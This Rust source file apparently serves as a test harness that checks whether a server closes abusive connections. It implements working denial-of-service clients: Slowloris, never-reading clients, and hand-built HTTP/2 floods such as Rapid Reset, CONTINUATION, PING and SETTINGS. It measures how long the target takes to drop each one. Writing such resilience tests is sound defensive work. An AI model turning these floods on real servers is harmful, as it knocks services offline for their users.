//! HTTP clients that mean harm, each on one connection: they stay silent, send a byte now and then, never read, or flood
//! it with frames. HTTP/2 is spoken by hand: no honest client sends such frames. This file must not know whom they
//! attack.

use std::{net::SocketAddr, time::Duration};

use anyhow::{Context as _, Result};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{Instant, timeout},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// How a client abuses its connection: what it says first, and then again and again.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Abuse {
    /// Says nothing at all.
    Silence,
    /// Sends the head of a request a byte at a time.
    SlowLoris,
    /// Says nothing after HTTP/2's preface.
    SilenceInHttp2,
    /// Resets every stream that it opens.
    RapidReset,
    /// Sends a head that never ends.
    Continuation,
    /// Sends pings.
    Ping,
    /// Sends settings.
    Settings,
    /// Sends priorities.
    Priority,
    /// Sends a body of empty frames.
    EmptyData,
    /// Asks again and again, and reads no answer.
    NeverReads,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
    let mut bytes = vec![a, b, c, kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// `POST https /` of a host, by HPACK's static table.
const REQUEST: &[u8] = &[0x83, 0x87, 0x84, 0x41, 0x01, b'x'];
const END_HEADERS: u8 = 4;

impl Abuse {
    /// Those that send as fast as they can.
    pub const FLOODS: [Self; 6] =
        [Self::RapidReset, Self::Continuation, Self::Ping, Self::Settings, Self::Priority, Self::EmptyData];

    fn opening(self) -> Vec<u8> {
        let http2 = [PREFACE, &frame(4, 0, 0, &[])].concat();
        match self {
            Self::Silence => Vec::new(),
            Self::SlowLoris => b"GET /livez HTTP/1.1\r\nhost: x\r\nx-slow: ".to_vec(),
            Self::NeverReads => Vec::new(),
            Self::Continuation => [http2, frame(1, 0, 1, REQUEST)].concat(),
            Self::EmptyData => [http2, frame(1, END_HEADERS, 1, REQUEST)].concat(),
            Self::SilenceInHttp2 | Self::RapidReset | Self::Ping | Self::Settings | Self::Priority => http2,
        }
    }

    /// What comes the `round`th time; nothing when it waits.
    fn more(self, round: u32) -> Option<Vec<u8>> {
        let stream = |number: u32| round * 64 + 2 * number + 1;
        let many = |one: Vec<u8>| one.repeat(32);
        match self {
            Self::Silence | Self::SilenceInHttp2 => None,
            Self::SlowLoris => Some(b"z".to_vec()),
            Self::NeverReads => Some(b"GET /openapi.json HTTP/1.1\r\nhost: x\r\n\r\n".repeat(32)),
            Self::RapidReset => {
                let pair = |number| {
                    [frame(1, END_HEADERS, stream(number), REQUEST), frame(3, 0, stream(number), &[0, 0, 0, 8])]
                        .concat()
                };
                Some((0..32).flat_map(pair).collect())
            }
            Self::Continuation => Some(many(frame(9, 0, 1, &[0x40, 1, b'a', 1, b'b']))),
            Self::Ping => Some(many(frame(6, 0, 0, &[7; 8]))),
            Self::Settings => Some(many(frame(4, 0, 0, &[]))),
            Self::Priority => Some(many(frame(2, 0, 1, &[0, 0, 0, 0, 1]))),
            Self::EmptyData => Some(many(frame(0, 0, 1, &[]))),
        }
    }

    /// Abuses a connection to `victim` until it is closed; gives how long that took.
    ///
    /// # Errors
    /// When there is no connection, or it is still open after `patience`.
    pub async fn run(self, victim: SocketAddr, patience: Duration) -> Result<Duration> {
        let mut stream = TcpStream::connect(victim).await.with_context(|| format!("{self:?} does not connect"))?;
        let began = Instant::now();
        let (mut read, mut write) = stream.split();
        let reading = async {
            let mut bytes = vec![0; 16_384];
            // An error is a close too.
            while !matches!(read.read(&mut bytes).await, Ok(0) | Err(_)) {}
        };
        let writing = async {
            let mut open = write.write_all(&self.opening()).await.is_ok();
            for round in 0.. {
                let Some(bytes) = self.more(round).filter(|_| open) else { break };
                open = write.write_all(&bytes).await.is_ok();
                if matches!(self, Self::SlowLoris) {
                    tokio::time::sleep(Duration::from_millis(200)).await;
                }
            }
            if open {
                std::future::pending::<()>().await;
            }
        };
        let over = async {
            if matches!(self, Self::NeverReads) {
                writing.await;
            } else {
                tokio::select! { () = reading => {}, () = writing => {} }
            }
        };
        timeout(patience, over).await.with_context(|| format!("{self:?} is still open after {patience:?}"))?;
        Ok(began.elapsed())
    }
}
